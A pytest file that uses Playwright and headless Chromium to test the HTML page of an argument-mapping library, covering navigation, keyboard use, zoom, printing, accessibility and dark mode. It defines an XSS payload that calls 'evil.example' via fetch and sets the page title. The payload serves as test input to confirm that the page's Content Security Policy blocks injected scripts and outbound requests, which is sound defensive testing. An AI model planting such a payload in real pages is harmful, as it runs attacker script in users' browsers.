"""Laws of the page in a real browser: Chromium, driven by Playwright."""

import shutil
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from argmap import ArgumentMap, Claim, Counterpoint, Inference, Source, draw, evaluate
from tests.diagram.make_golden import EXAMPLES
from tests.diagram.page.test_page import everywhere
from tests.diagram.shapes import tree
from tests.diagram.test_svg import HOSTILE

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser, Page

CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
FLAGS = [
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic"),
    *("--no-first-run", "--disable-background-networking"),
    *("--disable-component-update", "--disable-sync"),
]
WIDE = {"width": 1400, "height": 900}
NARROW = {"width": 360, "height": 780}
HOLE = "<img src=x onerror=fetch('//evil.example')><script>document.title='x'</script>"
ARTICLE = EXAMPLES["russia_in_syria"]

pytestmark = [
    pytest.mark.long,
    pytest.mark.skipif(not CHROMIUM, reason="no Chromium on this machine"),
]

SOURCE = Source(
    "news",
    "The news",
    url="https://example.org/news",
    text="Rents rose fast. So did wages. " + "Nothing else happened that day. " * 80,
)
RENTS = ArgumentMap.of(
    SOURCE,
    Claim("cap", "Rents should be capped."),
    Claim("rose", "Rents rose.", quotations=[SOURCE.quote("Rents rose fast")]),
    Claim("wages", "So did wages.", quotations=[SOURCE.quote("fast. So did wages")]),
    Inference(["rose"], conclusion="cap"),
    Counterpoint(["wages"], target="cap"),
    title="Rents",
    thesis="cap",
)


@pytest.fixture(scope="module")
def browser() -> "Iterator[Browser]":
    """Start a browser with a profile of its own."""
    playwright = pytest.importorskip(
        "playwright.sync_api", reason="Playwright is not installed"
    )
    with playwright.sync_playwright() as driver:
        started = driver.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield started
        started.close()


class Visit:
    """A page that was opened, what it asked for, and what went wrong."""

    def __init__(self, page: "Page", path: Path, state: str = "#?view=graph") -> None:
        self.page = page
        self.asked: list[str] = []
        self.said: list[str] = []
        page.set_default_timeout(0)
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("console", lambda message: self.said.append(message.text))
        page.on("pageerror", lambda error: self.said.append(str(error)))
        page.on("dialog", lambda dialog: self.said.append(dialog.message))
        page.goto(f"{path.as_uri()}{state}")

    @property
    def chosen(self) -> list[str]:
        """The parts whose boxes are marked."""
        return self._parts("a.claim.chosen")

    @property
    def quoted(self) -> list[str]:
        """The words in sources that are marked."""
        found: list[str] = self.page.locator("a.quoted.chosen").all_inner_texts()
        return found

    @property
    def heading(self) -> str | None:
        """The heading of the article that is shown, if any is."""
        articles = self.page.locator("article:visible h2")
        return articles.inner_text() if articles.count() else None

    @property
    def focus(self) -> str:
        """The name of what has the keyboard: an id or a part."""
        active = "document.activeElement"
        name: str = self.page.evaluate(f"{active}.dataset.parts || {active}.id")
        return name

    @property
    def scale(self) -> float:
        """How large the map is drawn."""
        script = "s => s.getBoundingClientRect().width / s.viewBox.baseVal.width"
        drawn: float = self.page.locator("svg").evaluate(script)
        return drawn

    @property
    def place(self) -> list[float]:
        """How far the map is scrolled."""
        script = "view => [view.scrollLeft, view.scrollTop]"
        scrolled: list[float] = self.page.locator("#page-map").evaluate(script)
        return scrolled

    def at_rest(self) -> list[float]:
        """Return where the map is scrolled to once it moves no more."""
        before, now = None, self.place
        while now != before:
            self.page.wait_for_timeout(150)
            before, now = now, self.place
        return now

    def wait(self, condition: "Callable[[], bool]") -> None:
        """Wait until something is so; the policy lets nobody ask from inside."""
        for _ in range(10_000):
            if condition():
                return
            self.page.wait_for_timeout(20)
        pytest.fail("it never came to be")

    def _parts(self, selector: str) -> list[str]:
        script = "found => found.map(each => each.dataset.parts)"
        parts: list[str] = self.page.locator(selector).evaluate_all(script)
        return parts


def visit(
    browser: "Browser",
    folder: Path,
    argument_map: ArgumentMap,
    viewport: dict[str, int] = WIDE,
    state: str = "#?view=graph",
    **options: Any,
) -> Visit:
    """Open a map's page as a file, in a fresh context."""
    path = folder / "map.html"
    path.write_bytes(draw(argument_map, with_source=True).render("html"))
    context = browser.new_context(viewport=viewport, **options)  # type: ignore[arg-type]
    return Visit(context.new_page(), path, state)


def test_click(browser: "Browser", tmp_path: Path) -> None:
    """A click on a claim shows it, its box and its words; Close hides it all."""
    seen = visit(browser, tmp_path, RENTS)
    assert seen.heading is None

    seen.page.locator("a.claim", has_text="Rents rose.").click()

    assert seen.heading == "Rents rose."
    assert seen.chosen == ["rose"]
    assert seen.quoted == ["Rents rose ", "fast"]
    seen.page.get_by_role("link", name="Close").click()
    assert (seen.heading, seen.chosen, seen.quoted) == (None, [], [])
    assert seen.page.url.endswith("#page-map")


@pytest.mark.parametrize("name", ["größe", "租金", "a.b-c_1", "__proto__", "page-map"])
def test_any_id(browser: "Browser", tmp_path: Path, name: str) -> None:
    """A claim is chosen whatever its id is."""
    seen = visit(browser, tmp_path, ArgumentMap([Claim(name, "So.")], thesis=name))

    seen.page.locator("a.claim").click()

    assert (seen.heading, seen.chosen) == ("So.", [name])


def test_links_lead_from_claim_to_claim(browser: "Browser", tmp_path: Path) -> None:
    """What is for or against a claim is a link to it, and back is the way back."""
    seen = visit(browser, tmp_path, RENTS)
    seen.page.locator("a.claim", has_text="Rents should be capped.").click()

    seen.page.locator("article:visible").get_by_role(
        "link", name="So did"
    ).first.click()

    assert seen.heading == "So did wages."
    assert seen.chosen == ["wages"]
    seen.page.go_back()
    assert seen.heading == "Rents should be capped."
    seen.page.wait_for_selector(".claim.chosen[data-parts='cap']")


def test_quoted_words_find_their_claims(browser: "Browser", tmp_path: Path) -> None:
    """Words that one claim quotes lead to it, words that two quote to both."""
    seen = visit(browser, tmp_path, RENTS)

    seen.page.get_by_role("link", name="Rents rose", exact=True).click()
    assert seen.chosen == ["rose"]
    seen.page.locator("a.quoted", has_text="fast").click()

    assert seen.heading == "2 claims quote these words"
    assert seen.chosen == ["rose", "wages"]


def test_selecting_scrolls_to_the_words(browser: "Browser", tmp_path: Path) -> None:
    """The source moves to the words of a claim; the page itself stays where it is."""
    seen = visit(browser, tmp_path, ARTICLE)
    box = "document.getElementById('page-sources')"
    assert seen.page.evaluate(f"{box}.scrollTop") == 0

    seen.page.evaluate("location.hash = '#part-at-loggerheads'")
    seen.page.wait_for_selector("a.claim.chosen")
    last = ARTICLE.claims[-1].id
    seen.page.evaluate(f"location.hash = '#part-{last}'")
    seen.page.wait_for_selector(f"a.claim.chosen[data-parts='{last}']")

    assert seen.page.evaluate("scrollY") == 0
    for selector, frame in (
        ("a.quoted.chosen", ".sources"),
        ("a.claim.chosen", ".view"),
    ):
        inner = seen.page.locator(selector).first.bounding_box()
        outer = seen.page.locator(frame).bounding_box()
        assert inner
        assert outer
        assert outer["y"] <= inner["y"] <= outer["y"] + outer["height"]


def test_show_it_there(browser: "Browser", tmp_path: Path) -> None:
    """A quotation leads to where it stands, and its claim stays chosen."""
    seen = visit(browser, tmp_path, RENTS, NARROW)
    seen.page.evaluate("location.hash = '#part-wages'")

    seen.page.get_by_role("link", name="Show it there").click()

    assert seen.heading == "So did wages."
    assert seen.focus == "rose wages"


def test_keyboard(browser: "Browser", tmp_path: Path) -> None:
    """Tab reaches claims, Enter and Space open one, Escape leads back to it."""
    seen = visit(browser, tmp_path, RENTS)
    press = seen.page.keyboard.press
    seen.page.locator("#page-map").focus()
    press("Tab")
    assert seen.focus == "cap"

    press("Enter")
    assert seen.heading == "Rents should be capped."
    assert seen.focus == "cap"
    assert seen.page.evaluate("document.activeElement.tagName") == "ARTICLE"
    press("Escape")
    assert seen.heading is None
    assert seen.page.evaluate("document.activeElement.tagName") == "a"
    press("Tab")
    press("Space")

    assert seen.heading == "Rents rose."
    assert seen.page.evaluate("scrollY") == 0


def test_focus_can_be_seen(browser: "Browser", tmp_path: Path) -> None:
    """Whatever has the keyboard looks different from when it has not."""
    seen = visit(browser, tmp_path, RENTS)
    page = seen.page
    stops = page.locator("a:visible, button:visible, [tabindex='0']:visible").count()
    script = """() => {
      const active = document.activeElement;
      const looks = (element) => {
        const style = getComputedStyle(element);
        return [style.outlineStyle, style.outlineWidth, style.stroke,
                style.strokeWidth].join();
      };
      const isClaim = active.matches(".claim");
      const target = isClaim ? active.querySelector("rect") : active;
      const focused = looks(target);
      active.blur();
      const other = looks(target);
      active.focus();
      return [active.tagName, focused !== other];
    }"""

    for _ in range(stops):
        page.keyboard.press("Tab")
        name, is_seen = page.evaluate(script)
        assert name != "BODY"
        assert is_seen, name


def test_zoom_and_pan(browser: "Browser", tmp_path: Path) -> None:
    """Keys, buttons and the wheel with Ctrl zoom; arrows and the mouse move the map."""
    seen = visit(browser, tmp_path, ARTICLE)
    page, press = seen.page, seen.page.keyboard.press
    first = seen.scale
    page.locator("#page-map").focus()

    press("+")
    assert seen.scale == pytest.approx(1.25 * first, rel=0.01)
    press("-")
    assert seen.scale == pytest.approx(first, rel=0.01)
    page.get_by_role("button", name="Zoom in").click()
    assert seen.scale == pytest.approx(1.25 * first, rel=0.01)
    page.get_by_role("button", name="Zoom out").click()
    page.mouse.move(300, 400)
    page.keyboard.down("Control")
    page.mouse.wheel(0, -100)
    page.keyboard.up("Control")
    seen.wait(lambda: seen.scale > 1.1 * first)
    assert page.evaluate("visualViewport.scale") == 1

    before = seen.place
    page.locator("#page-map").focus()
    press("ArrowDown")
    seen.wait(lambda: seen.place[1] > before[1])
    before = seen.at_rest()
    page.mouse.move(300, 400)
    page.mouse.down()
    page.mouse.move(280, 350, steps=4)
    page.mouse.up()
    assert seen.place == pytest.approx([before[0] + 20, before[1] + 50], abs=4)
    assert seen.heading is None

    page.get_by_role("button", name="Whole map").click()
    whole = seen.scale
    assert whole < first
    page.locator("#page-map").focus()
    press("+")
    press("0")
    assert seen.scale == pytest.approx(whole, rel=0.01)


def test_dragging_chooses_nothing(browser: "Browser", tmp_path: Path) -> None:
    """A drag that begins on a claim moves the map and opens no article."""
    seen = visit(browser, tmp_path, ARTICLE)
    box = seen.page.locator("a.claim:visible").first
    box.scroll_into_view_if_needed()
    place = box.bounding_box()
    assert place

    seen.page.mouse.move(place["x"] + 20, place["y"] + 20)
    seen.page.mouse.down()
    seen.page.mouse.move(place["x"] + 60, place["y"] + 60, steps=4)
    seen.page.mouse.up()

    assert seen.heading is None


def test_a_link_to_a_claim(browser: "Browser", tmp_path: Path) -> None:
    """The address of a claim opens the page with that claim chosen."""
    seen = visit(browser, tmp_path, RENTS, state="")

    seen.page.goto(f"{seen.page.url}#part-wages")
    seen.page.reload()

    assert seen.heading == "So did wages."
    assert seen.chosen == ["wages"]
    assert not seen.page.locator("#page-map").is_visible()


def test_without_a_script(browser: "Browser", tmp_path: Path) -> None:
    """Claims can be read where scripts are not allowed; dead buttons are not shown."""
    seen = visit(browser, tmp_path, RENTS, java_script_enabled=False)

    seen.page.locator("a.claim", has_text="Rents rose.").click()

    assert seen.page.locator("article:visible h2").inner_text() == "Rents rose."
    assert seen.page.locator("button:visible").count() == 0


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_dark_and_light(browser: "Browser", tmp_path: Path, scheme: Any) -> None:
    """Page and picture follow the reader's scheme together."""
    seen = visit(browser, tmp_path, RENTS, color_scheme=scheme)

    page, paper = (
        seen.page.locator(name).first.evaluate(f"e => getComputedStyle(e).{field}")
        for name, field in (("body", "backgroundColor"), ("svg .paper", "fill"))
    )
    assert (
        page
        == paper
        == {"light": "rgb(255, 255, 255)", "dark": "rgb(13, 17, 23)"}[scheme]
    )


@pytest.mark.parametrize("name", EXAMPLES)
def test_narrow_screen(browser: "Browser", tmp_path: Path, name: str) -> None:
    """At 360 pixels nothing sticks out, and the panel is below the map."""
    seen = visit(browser, tmp_path, EXAMPLES[name], NARROW, has_touch=True)
    page = seen.page
    assert page.evaluate("document.documentElement.scrollWidth") <= 360

    thesis = EXAMPLES[name].thesis or EXAMPLES[name].claims[0].id
    page.locator(f"a.claim[data-parts='{thesis}']").tap()

    page.wait_for_selector("article:visible")
    article = page.locator("article:visible").bounding_box()
    view = page.locator("#page-map").bounding_box()
    assert article
    assert view
    assert article["y"] >= view["y"] + view["height"]
    assert -1 <= article["y"] < 780
    assert page.evaluate("document.documentElement.scrollWidth") <= 360


def test_print(browser: "Browser", tmp_path: Path) -> None:
    """On paper is the list, whichever view is shown, in letters of nine points."""
    seen = visit(browser, tmp_path, ARTICLE, color_scheme="dark")
    seen.page.evaluate("location.hash = '#part-at-loggerheads'")
    seen.page.emulate_media(media="print")

    for hidden in (".panel", ".sources", ".tools", "nav", "#page-map", ".fold"):
        assert not seen.page.locator(hidden).first.is_visible()
    row = seen.page.locator(".row").last
    assert row.is_visible()
    size = row.evaluate("e => parseFloat(getComputedStyle(e).fontSize)")
    assert size >= 9 / 72 * 96
    ink = row.evaluate("e => getComputedStyle(e).color")
    assert ink == row.evaluate("() => getComputedStyle(document.body).color")
    assert seen.page.pdf().count(b"/Type /Page\n") >= 2


@pytest.mark.parametrize("words", [*HOSTILE, HOLE])
def test_hostile_map(browser: "Browser", tmp_path: Path, words: str) -> None:
    """No script of a map runs, no request leaves, and the page works as ever."""
    seen = visit(browser, tmp_path, everywhere(words))

    for claim in seen.page.locator("a.claim").all():
        claim.dispatch_event("click")
    for link in ("#part-c", "#quoted-0"):
        seen.page.evaluate(f"location.hash = '{link}'")
        seen.page.wait_for_selector("a.claim.chosen")

    assert seen.said == []
    assert seen.asked == [(tmp_path / "map.html").as_uri()]
    assert seen.page.locator("script").count() == 1
    assert seen.page.locator("img, iframe, object, foreignObject").count() == 0
    assert seen.page.title() != "x"


def test_the_policy_holds(browser: "Browser", tmp_path: Path) -> None:
    """Were markup to get in all the same, its scripts would not run."""
    path = tmp_path / "map.html"
    html = draw(RENTS).page
    path.write_text(html.replace("</main>", f"{HOLE}</main>"), encoding="utf-8")

    seen = Visit(browser.new_page(), path)
    seen.page.evaluate("document.body.click()")

    assert seen.page.title() == "Rents"
    assert not any("evil" in each for each in seen.asked)
    assert any("Content Security Policy" in each for each in seen.said)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("viewport", [WIDE, NARROW], ids=["wide", "narrow"])
@pytest.mark.parametrize("fragment", ["", "#part-at-loggerheads", "#part-compromise"])
def test_axe(
    browser: "Browser",
    tmp_path: Path,
    scheme: Any,
    viewport: dict[str, int],
    fragment: str,
) -> None:
    """axe-core finds nothing that keeps somebody out."""
    axe = pytest.importorskip(
        "axe_playwright_python.sync_playwright", reason="axe-core is not installed"
    )
    seen = visit(browser, tmp_path, ARTICLE, viewport, color_scheme=scheme)
    if fragment:
        seen.page.evaluate(f"location.hash = '{fragment}'")
        seen.page.wait_for_selector("a.claim.chosen")

    found = axe.Axe().run(seen.page).response

    assert [
        (each["id"], each["nodes"][0]["html"]) for each in found["violations"]
    ] == []
    assert len(found["passes"]) > 10


def test_a_large_map_opens(browser: "Browser", tmp_path: Path) -> None:
    """3,000 claims can be read like three."""
    path = tmp_path / "map.html"
    path.write_bytes(draw(tree(3000), timeout=3600).render("html"))
    seen = Visit(browser.new_page(), path)

    seen.page.evaluate("location.hash = '#part-c2999'")
    seen.page.wait_for_selector("a.claim.chosen")

    assert seen.chosen == ["c2999"]
    assert seen.said == []


def test_the_list_comes_first(browser: "Browser", tmp_path: Path) -> None:
    """A claim of the list is chosen by a click; the map is one button away."""
    seen = visit(browser, tmp_path, RENTS, state="")
    assert not seen.page.locator("#page-map").is_visible()

    seen.page.locator(".row", has_text="Rents rose.").click()

    assert seen.heading == "Rents rose."
    assert seen.page.locator(".row.chosen").count() == 1
    assert seen.page.locator(".row.is-use").inner_text().startswith("Rents should")
    seen.page.get_by_role("button", name="Map", exact=True).click()
    assert seen.page.locator("#page-map").is_visible()
    assert not seen.page.locator("#page-outline").is_visible()


def test_keys_lead_on(browser: "Browser", tmp_path: Path) -> None:
    """Letters go to the next claim and back, to reasons, objections and ends."""
    seen = visit(browser, tmp_path, RENTS, state="")
    for key, heading in (
        ("n", "Rents should be capped."),
        ("r", "Rents rose."),
        ("s", "Rents should be capped."),
        ("o", "So did wages."),
        ("p", "Rents rose."),
        ("n", "So did wages."),
    ):
        seen.page.keyboard.press(key)
        seen.wait(lambda heading=heading: seen.heading == heading)  # type: ignore[misc]


def test_search_and_filters(browser: "Browser", tmp_path: Path) -> None:
    """Rows are found by their words and their verdict, and the address keeps that."""
    seen = visit(browser, tmp_path, RENTS, state="")
    rows = seen.page.locator(".row:visible")
    seen.page.locator("#by-search").fill("wages")

    assert rows.count() == 2  # what speaks against the thesis, below it
    assert seen.page.locator("#found").inner_text() == "1 of 3 found"
    seen.page.reload()
    assert rows.count() == 2
    seen.page.locator("#by-search").fill("")
    seen.page.locator("#by-kind").select_option("Reason")
    assert seen.page.locator("li:not(.context) > .row:visible").all_inner_texts() == [
        "Rents rose. [stands] (not enough)"
    ]
    assert seen.page.url.endswith("#?kind=Reason")


def test_folding(browser: "Browser", tmp_path: Path) -> None:
    """What is folded away is unfolded where it is chosen."""
    seen = visit(browser, tmp_path, RENTS, state="")
    row = seen.page.locator(".row", has_text="Rents rose.")
    fold = seen.page.locator("button.fold")

    fold.click()
    assert not row.is_visible()
    assert fold.get_attribute("aria-expanded") == "false"
    seen.page.evaluate("location.hash = '#part-rose'")
    seen.wait(row.is_visible)


@pytest.mark.parametrize(
    "left_out", ["removal-of-assad", "at-loggerheads", "popular-will"]
)
def test_setting_a_claim_aside(
    browser: "Browser", tmp_path: Path, left_out: str
) -> None:
    """The verdicts that change are those of an evaluation without the claim."""
    seen = visit(browser, tmp_path, ARTICLE, state=f"#part-{left_out}")
    seen.page.locator("article.open button.aside").click()

    before, after = evaluate(ARTICLE), evaluate(ARTICLE, without=[left_out])
    script = "rows => rows.map(each => [each.dataset.parts, each.dataset.now])"
    shown = dict(seen.page.locator(".row[data-now]").evaluate_all(script))
    assert shown.pop(left_out) == "set aside"
    assert shown == {
        each.id: "rejected" if after.verdict(each).is_rejected else after.verdict(each)
        for each in ARTICLE.claims
        if each.id != left_out
        if before.verdict(each) != after.verdict(each)
        if not (before.verdict(each).is_rejected and after.verdict(each).is_rejected)
    }
    address = seen.page.url
    assert address.endswith(f"?without={left_out}")
    seen.page.get_by_role("button", name="Put it back").click()
    assert seen.page.locator("[data-now]").count() == 0
    seen.page.goto(address)
    seen.page.reload()
    assert seen.page.locator(".row[data-now]").count() > 0
